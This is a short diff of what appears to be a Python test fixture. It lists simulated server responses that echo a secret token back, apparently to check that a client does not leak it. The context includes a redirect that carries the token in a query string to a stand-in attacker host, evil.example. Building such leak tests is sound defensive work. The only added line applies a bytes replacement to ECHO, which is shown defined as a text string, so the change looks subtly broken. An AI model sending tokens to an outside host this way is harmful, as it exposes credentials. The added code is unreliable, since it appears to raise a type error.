@@ -207,6 +207,7 @@ ECHO = f'{{"name": "Denied", "message": "your token {TOKEN} is bad", "id": null}
 ECHOES: dict[str, list[Behaviour]] = {
     "refused": [Respond(403, (("X-Token", TOKEN), ("WWW-Authenticate", f'Bearer "{TOKEN}"')), ECHO)],
     "unknown": [Respond(500, (("X-Token", TOKEN),), ECHO)],
+    "escaped": [Respond(403, body=ECHO.replace(b"-", b"\\u002d"))],
     "redirect": [redirect(302, f"https://evil.example/?t={TOKEN}")],
     "no HTTP": [SendRaw(f"{TOKEN} {TOKEN}\r\n\r\n".encode())],
     "odd header": [SendRaw(f"HTTP/1.1 200 OK\r\n{TOKEN}\r\n\r\n".encode())],
